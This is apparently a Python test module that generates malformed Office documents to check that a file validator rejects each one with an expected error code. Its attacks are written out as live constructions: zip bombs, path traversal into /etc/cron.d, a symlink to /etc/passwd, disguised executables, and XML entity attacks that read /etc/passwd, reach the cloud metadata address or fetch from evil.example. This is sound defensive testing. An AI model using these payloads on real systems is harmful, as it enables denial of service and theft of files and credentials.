"""Word, PowerPoint and Excel files that are well in all but one thing."""

import io
import stat
import zipfile
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from functools import cache, partial

import docx
import openpyxl
import pptx

from tests.hostile.case import Case, case
from tests.hostile.zips import DEFLATED, ENCRYPTED, SIZES_FOLLOW, STORED, Part, archive, zeros

MEGABYTE = 2**20
WORDS = "quarterly figures"

MAIN = {"docx": "word/document.xml", "pptx": "ppt/slides/slide1.xml", "xlsx": "xl/worksheets/sheet1.xml"}
"""The part that holds the words, by the kind of file."""
FOLDER = {"docx": "word", "pptx": "ppt", "xlsx": "xl"}
TEXT_PARTS = ("[Content_Types].xml", "_rels/.rels", "docProps/core.xml")
"""Others that every kind has."""

Parts = tuple[Part, ...]
Attack = Callable[[str, Parts], bytes]


@cache
def clean_parts(kind: str) -> Parts:
    """A file as the usual library writes it, taken apart."""
    buffer = io.BytesIO()
    if kind == "docx":
        document = docx.Document()
        document.add_paragraph(WORDS)
        document.save(buffer)
    elif kind == "pptx":
        presentation = pptx.Presentation()
        slide = presentation.slides.add_slide(presentation.slide_layouts[5])
        if slide.shapes.title is not None:
            slide.shapes.title.text = WORDS
        presentation.save(buffer)
    else:
        workbook = openpyxl.Workbook()
        workbook.create_sheet("first", 0).append([WORDS])
        workbook.save(buffer)
    with zipfile.ZipFile(buffer) as file:
        return tuple(Part(name, file.read(name)) for name in file.namelist())


def with_part(parts: Parts, *more: Part) -> bytes:
    return archive((*parts, *more))


def changed(parts: Parts, name: str, change: Callable[[Part], Part]) -> bytes:
    return archive(change(part) if part.name == name else part for part in parts)


def main_changed(change: Callable[[Part], Part], kind: str, parts: Parts) -> bytes:
    return changed(parts, MAIN[kind], change)


def bomb(name: str, size: int) -> Part:
    body = zeros(size)
    told: dict[str, object] = {"packed": len(body), "unpacked": size}
    return Part(name, body=body, local=told, central=told)


def lies(**fields: object) -> Callable[[Part], Part]:
    """The directory says one thing, the part another."""
    return lambda part: replace(part, central=fields)


def both(**fields: object) -> Callable[[Part], Part]:
    return lambda part: replace(part, local=fields, central=fields)


def rewritten(change: Callable[[bytes], bytes]) -> Callable[[Part], Part]:
    return lambda part: replace(part, data=change(part.data))


def in_media(kind: str, name: str, data: bytes, method: int = DEFLATED) -> Part:
    return Part(f"{FOLDER[kind]}/media/{name}", data, method=method)


def nest(kind: str, parts: Parts, times: int) -> bytes:
    """Documents embedded in documents."""
    data = archive(parts)
    for _ in range(times):
        data = with_part(parts, Part(f"{FOLDER[kind]}/embeddings/inner.xlsx", data, method=STORED))
    return data


def layered(levels: int) -> bytes:
    """Zips of ten zips each: 42.zip in small."""
    data = archive([bomb("0.dll", MEGABYTE)])
    for level in range(levels):
        data = archive(Part(f"lib {level} {number}.zip", data, method=STORED) for number in range(3))
    return data


def overlapping(_: str, parts: Parts) -> bytes:
    """All further parts are the first one's bytes, as in Fifield's bomb."""
    first = parts[0]
    more = [replace(first, name=f"again{number}.xml", offset=0, body=b"") for number in range(50)]
    told: dict[str, object] = dict(
        zip(("flags", "method", "crc", "packed", "unpacked", "name"), first.fields({}), strict=True)
    )
    return archive([*parts, *(replace(part, central=told | {"name": part.name.encode()}) for part in more)])


ARCHIVE_ATTACKS: dict[str, tuple[str, Attack]] = {
    "flat bomb": ("ArchiveBomb", lambda kind, parts: with_part(parts, bomb(f"{FOLDER[kind]}/a.bin", 30 * MEGABYTE))),
    "bomb in the main part": (
        "ArchiveBomb",
        lambda kind, parts: with_part(
            tuple(part for part in parts if part.name != MAIN[kind]), bomb(MAIN[kind], 30 * MEGABYTE)
        ),
    ),
    "bomb of many small parts": (
        "ArchiveBomb",
        lambda kind, parts: with_part(parts, *(bomb(f"{FOLDER[kind]}/{n}.bin", MEGABYTE) for n in range(64))),
    ),
    "a part of 257 MiB": ("ArchiveTooLarge", lambda _, parts: with_part(parts, bomb("a.bin", 257 * MEGABYTE))),
    "a size of 4 GiB, claimed": (
        "ArchiveTooLarge",
        lambda kind, parts: changed(parts, MAIN[kind], both(unpacked=2**32 - 2)),
    ),
    "overlapping parts": ("ArchiveBomb", overlapping),
    "twelve thousand parts": (
        "ArchiveTooLarge CorruptOffice",
        lambda _, parts: with_part(parts, *(Part(f"{n}", method=STORED) for n in range(12_000))),
    ),
    "nested bomb": (
        "NestedArchive",
        lambda kind, parts: with_part(parts, in_media(kind, "a.zip", layered(4), STORED)),
    ),
    "documents four deep": ("NestedArchive", lambda kind, parts: nest(kind, parts, 4)),
    "bomb in an embedded document": (
        "ArchiveBomb",
        lambda kind, parts: with_part(
            parts, Part(f"{FOLDER[kind]}/embeddings/a.xlsx", archive([bomb("a", 30 * MEGABYTE)]), method=STORED)
        ),
    ),
    "gzip inside": ("NestedArchive", lambda kind, parts: with_part(parts, in_media(kind, "a", b"\x1f\x8b\x08" * 9))),
    "7z inside": (
        "NestedArchive",
        lambda kind, parts: with_part(parts, in_media(kind, "a", b"7z\xbc\xaf\x27\x1c" + bytes(99))),
    ),
    "tar inside": (
        "NestedArchive",
        lambda kind, parts: with_part(parts, in_media(kind, "a", b"a" * 257 + b"ustar\x0000" + bytes(300))),
    ),
    "another name in the part": (
        "CorruptDocument",
        lambda kind, parts: changed(parts, MAIN[kind], lambda part: replace(part, local={"name": b"x" * 9})),
    ),
    "another size in the part": (
        "CorruptDocument",
        lambda kind, parts: changed(parts, MAIN[kind], lambda part: replace(part, local={"unpacked": 9})),
    ),
    "another method in the part": (
        "CorruptDocument",
        lambda kind, parts: changed(parts, MAIN[kind], lambda part: replace(part, local={"method": STORED})),
    ),
    "wrong checksum": ("CorruptDocument", lambda kind, parts: changed(parts, MAIN[kind], both(crc=1))),
    "data cut short": (
        "CorruptDocument",
        lambda kind, parts: changed(parts, MAIN[kind], lambda part: replace(part, body=part.packed()[:30])),
    ),
    "unknown packing": ("CorruptDocument", lambda kind, parts: changed(parts, MAIN[kind], both(method=12))),
    "sizes that follow and lie": (
        "CorruptDocument",
        lambda kind, parts: changed(
            parts, MAIN[kind], lambda part: replace(part, local={"flags": SIZES_FOLLOW, "crc": 7}, central={"flags": 8})
        ),
    ),
    "encrypted part": ("EncryptedOffice", lambda kind, parts: changed(parts, MAIN[kind], both(flags=ENCRYPTED))),
    "strongly encrypted part": (
        "EncryptedOffice",
        lambda kind, parts: changed(parts, MAIN[kind], both(flags=0x40)),
    ),
    "link to the host's passwords": (
        "UnsafeArchive",
        lambda _, parts: with_part(parts, Part("a", b"/etc/passwd", mode=stat.S_IFLNK | 0o777)),
    ),
    "path upwards": ("UnsafeArchive", lambda _, parts: with_part(parts, Part("../../etc/cron.d/a", b"x"))),
    "absolute path": ("UnsafeArchive", lambda _, parts: with_part(parts, Part("/etc/passwd", b"x"))),
    "Windows path": ("UnsafeArchive", lambda _, parts: with_part(parts, Part("C:\\windows\\a", b"x"))),
    "NUL in a name": ("UnsafeArchive", lambda _, parts: with_part(parts, Part("a.xml\0.exe", b"x"))),
    "right-to-left name": ("UnsafeArchive", lambda _, parts: with_part(parts, Part("a\u202efdp.exe", b"x"))),
    "a part twice": ("UnsafeArchive", lambda kind, parts: with_part(parts, Part(MAIN[kind], b"<a/>"))),
    "a part twice but for case": (
        "UnsafeArchive",
        lambda kind, parts: with_part(parts, Part(MAIN[kind].upper(), b"<a/>")),
    ),
    "an archive behind it": ("UnsafeArchive", lambda _, parts: archive(parts) + archive(parts)),
    "a script behind it": ("UnsafeArchive CorruptOffice", lambda _, parts: archive(parts, suffix=b"\n#!/bin/sh\nid\n")),
    "an archive before it": (
        "UnsafeArchive",
        lambda _, parts: archive(parts, prefix=archive([Part("a.exe", b"MZ", method=STORED)])),
    ),
    "cut in the middle": ("CorruptOffice CorruptDocument", lambda _, parts: archive(parts)[:4_000]),
    "cut directory": ("CorruptOffice CorruptDocument", lambda _, parts: archive(parts)[:-60]),
    "executable inside": (
        "ExecutableFile",
        lambda kind, parts: with_part(parts, in_media(kind, "setup.bin", b"\x7fELF\x02\x01\x01" + bytes(99))),
    ),
    "Windows program inside": (
        "ExecutableFile",
        lambda kind, parts: with_part(
            parts,
            in_media(kind, "a.png", b"MZ\x90" + bytes(75) + b"!This program cannot be run in DOS mode.\r\n" + bytes(9)),
        ),
    ),
    "macros": (
        "MacroEnabled",
        lambda kind, parts: with_part(parts, Part(f"{FOLDER[kind]}/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(99))),
    ),
    "macros under another name": (
        "MacroEnabled",
        lambda _, parts: changed(
            parts, "[Content_Types].xml", rewritten(lambda data: data.replace(b".main+xml", b".macroEnabled.main+xml"))
        ),
    ),
}

LAUGHS = b"<!DOCTYPE l [" + b"".join(
    b'<!ENTITY l%d "%s">' % (n, b"ha" if n == 0 else b"&l%d;" % (n - 1) * 10) for n in range(10)
)
DOCTYPES = {
    "billion laughs": LAUGHS + b"]>",
    "quadratic blow-up": b'<!DOCTYPE l [<!ENTITY a "' + b"a" * 50_000 + b'">]>',
    "external entity": b'<!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    "external DTD": b'<!DOCTYPE l SYSTEM "http://169.254.169.254/latest/meta-data/">',
    "parameter entity": b'<!DOCTYPE l [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]>',
}


def with_doctype(doctype: bytes, encoding: str, data: bytes) -> bytes:
    """Behind the XML declaration, in another encoding where that is asked for."""
    body = data.partition(b"?>")[2] if data.startswith(b"<?xml") else data
    return b"".join([b"<?xml version='1.0'?>", doctype, body]).decode().encode(encoding)


def deep(levels: int) -> Callable[[bytes], bytes]:
    return lambda _: b"<a>" * levels + b"</a>" * levels


def xml_attack(name: str, change: Callable[[bytes], bytes]) -> Attack:
    def attack(kind: str, parts: Parts) -> bytes:
        return changed(parts, name or MAIN[kind], rewritten(change))

    return attack


def xml_attacks() -> Iterator[tuple[str, str, Attack]]:
    for title, doctype in DOCTYPES.items():
        for part in ("", *TEXT_PARTS):
            yield (
                f"{title} in {part or 'the main part'}",
                "UnsafeXML",
                xml_attack(part, partial(with_doctype, doctype, "utf-8")),
            )
    for encoding in ("utf-16", "utf-16-be"):
        yield (
            f"billion laughs in {encoding}",
            "UnsafeXML",
            xml_attack("", partial(with_doctype, LAUGHS + b"]>", encoding)),
        )
    yield "elements 50,000 deep", "ExtractionTooDeep", xml_attack("", deep(50_000))
    yield "elements 300 deep", "ExtractionTooDeep", xml_attack("", deep(300))
    yield "XML without an end", "CorruptDocument", xml_attack("", lambda data: data[:-20])
    yield "no XML at all", "CorruptDocument", xml_attack("", lambda _: b"\x00\x01\x02 rubbish")
    yield "a tag of ten megabytes", "UnsafeXML ArchiveBomb", xml_attack("", lambda _: b'<a b="' + varied(10 * MEGABYTE))


@cache
def varied(size: int) -> bytes:
    """Letters that do not pack too well, so that it is not the ratio that gives them away."""
    line = b"".join(b"%x" % (number * 2_654_435_761 % 2**32) for number in range(20_000))
    return (line * (size // len(line) + 1))[:size]


def cases() -> Sequence[Case]:
    found = [
        case(f"{kind}: {title}", f"report.{kind}", codes, partial(_build, attack, kind))
        for kind in MAIN
        for title, (codes, attack) in ARCHIVE_ATTACKS.items()
    ]
    found += [
        case(f"{kind}: {title}", f"report.{kind}", codes, partial(_build, attack, kind))
        for kind in MAIN
        for title, codes, attack in xml_attacks()
    ]
    return found


def _build(attack: Attack, kind: str) -> bytes:
    return attack(kind, clean_parts(kind))
